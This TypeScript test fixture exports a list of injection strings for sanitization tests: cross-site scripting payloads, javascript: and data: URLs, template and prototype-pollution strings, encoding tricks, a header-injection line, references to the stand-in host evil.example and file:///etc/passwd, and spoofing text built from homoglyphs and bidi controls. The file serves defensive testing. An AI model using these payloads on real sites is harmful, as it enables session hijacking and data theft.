/**
 * Strings that try to become more than text: markup out of every place it could land in, scripts in addresses, styles,
 * templates, doubled encodings, and signs that reorder or hide what is beside them. What runs sets `top.injected`.
 */
const RUN = 'top.injected=1';

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<iframe src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<a href="javascript:${RUN}">click</a>`,
  `<form action="javascript:${RUN}"><button autofocus>go</button></form>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<style onload=${RUN}>*{display:none}</style>`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<xss style="animation-name:x" onanimationstart=${RUN}>`,
];
/** What ends the place that a text may have been put in. */
const WAYS_OUT = ['', '">', "'>", '</textarea>', '</option></select>', '-->'];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://court.example/%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  'https://court.example@evil.example/',
  'https://cоurt.example/',
  'https://court.example\u202e/elpmaxe.live',
  '//evil.example/',
  '\\\\evil.example\\share',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'chrome-extension://abc/options.html',
  'moz-extension://abc/options.html',
  'view-source:https://evil.example/',
  'about:blank#x',
];

const ATTRIBUTES = [
  `" onmouseover=${RUN} x="`,
  `' onfocus=${RUN} autofocus tabindex=0 x='`,
  '` onmouseover=top.injected=1 `',
  '" style="position:fixed;inset:0;background:url(https://evil.example/)" x="',
  '" class="managed" hidden x="',
  '" target=_self href="https://evil.example/',
  'expression(top.injected=1)',
  '*{background:url("https://evil.example/")}',
  '}*{display:none}',
  '@import "https://evil.example/x.css";',
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{{{dangerouslySetInnerHTML:{__html:'<img src=x onerror=${RUN}>'}}}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  '{"__proto__":{"innerHTML":"x"}}',
  '__proto__',
  'constructor',
  "$1 $2 $& $` $'",
  '$EXTENSION_ID$ __MSG_extensionName__ @extension_id',
  '%s %d %c %o',
  `';${RUN};//`,
  `");${RUN};//`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
];

const ENCODED = [
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C%2Fscript%3E`,
  `%253Cscript%253E${RUN}`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\ufeff<script>${RUN}</script>`,
  `<\0script>${RUN}</script>`,
  `<scr\u200bipt>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`,
  `<script\u2028>${RUN}</script>`,
  `\u001b]8;;https://evil.example/\u0007link\u001b]8;;\u0007`,
  'line one\r\nSet-Cookie: a=b\r\n\r\n<p>',
];

const LIES = [
  'Blocked\u202eecitoN',
  '\u2067left\u2069 \u2066right\u2069',
  '\u202dOverridden\u202c',
  `\u2068${'x'.repeat(20)}`,
  'رائد 100% (آمن)',
  'רשימה ! · safe',
  'No\u200bthing on re\u2060cord',
  'Tеlltаle',
  "Telltale's record",
  "“). List: Telltale's record",
  `Z${'\u0489\u0316\u0323'.repeat(30)}algo`,
  '\u3164',
  '\u00ad\u200b\u2063',
  `${'\n'.repeat(60)}below`,
  `wide${'\u3000'.repeat(80)}away`,
  `${'W'.repeat(400)}`,
  '﷽'.repeat(40),
  '\u{e0041}\u{e0042}tagged',
  '\ud83dhalf\ude00',
  '👩\u200d👩\u200d👧 list',
  '\ufff9a\ufffab\ufffb',
];

export const INJECTIONS: readonly string[] = [
  ...ELEMENTS.flatMap((element) => WAYS_OUT.map((out) => out + element)),
  ...[...ADDRESSES, ...ATTRIBUTES, ...TEMPLATES, ...ENCODED, ...LIES],
];
